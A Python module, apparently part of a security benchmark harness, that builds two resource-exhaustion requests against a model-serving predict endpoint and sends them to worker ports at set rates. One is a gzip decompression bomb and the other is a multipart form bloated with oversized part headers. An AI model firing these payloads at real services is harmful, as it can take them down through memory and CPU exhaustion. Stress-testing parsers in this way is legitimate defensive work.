"""Small bodies that unpack to long lists, and forms of part heads: long loops for a parser that has no limits."""

from __future__ import annotations

import asyncio
import gzip
from collections.abc import Awaitable, Callable, Mapping
from functools import partial

from benchmarks.attack.kinds.sending import HOST, exchange, paced
from benchmarks.attack.targets import SERVICE, Findings, Targets
from benchmarks.harness.requests import post

_LISTS_PER_S = 4.0
_FORMS_PER_S = 3.0

_PIXEL = b"[[[0,0,0]]]"


def packed_list(pixels: int = 2_700_000) -> bytes:
    """A POST of 63 kB of gzip that unpacks to 30 MB of JSON: a list of images of one pixel."""
    unpacked = b'{"instances": [' + (_PIXEL + b",") * (pixels - 1) + _PIXEL + b"]}"
    body = gzip.compress(unpacked, 9)
    head = f"POST /v1/models/{SERVICE}:predict HTTP/1.1\r\nHost: {HOST}\r\nContent-Encoding: gzip\r\n"
    return f"{head}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body


def form_of_heads(parts: int = 255) -> bytes:
    """A POST of a form of 4 MB, nearly all of which is the heads of its parts."""
    head = b'--b\r\nContent-Disposition: form-data; name="' + b"\\a" * 8100 + b'"\r\n\r\nv\r\n'
    body = head * parts + b"--b--\r\n"
    return post(body, "multipart/form-data; boundary=b", headers="Connection: close\r\n")


def prepared() -> Callable[[Targets, Findings], Awaitable[None]]:
    """Build both requests; what posts them."""
    return partial(post_bodies, {packed_list(): _LISTS_PER_S, form_of_heads(): _FORMS_PER_S})


async def post_bodies(rates: Mapping[bytes, float], targets: Targets, findings: Findings) -> None:
    """Post each request to the workers by turns, so many times per second."""
    async with asyncio.TaskGroup() as group:
        for request, per_s in rates.items():
            group.create_task(_post(request, per_s, targets, findings))


async def _post(request: bytes, per_s: float, targets: Targets, findings: Findings) -> None:
    async with asyncio.TaskGroup() as group:
        async for number in paced(per_s):
            port = targets.workers[number % len(targets.workers)]
            group.create_task(_note(port, request, findings))


async def _note(port: int, request: bytes, findings: Findings) -> None:
    findings.outcomes[await exchange(port, request)] += 1
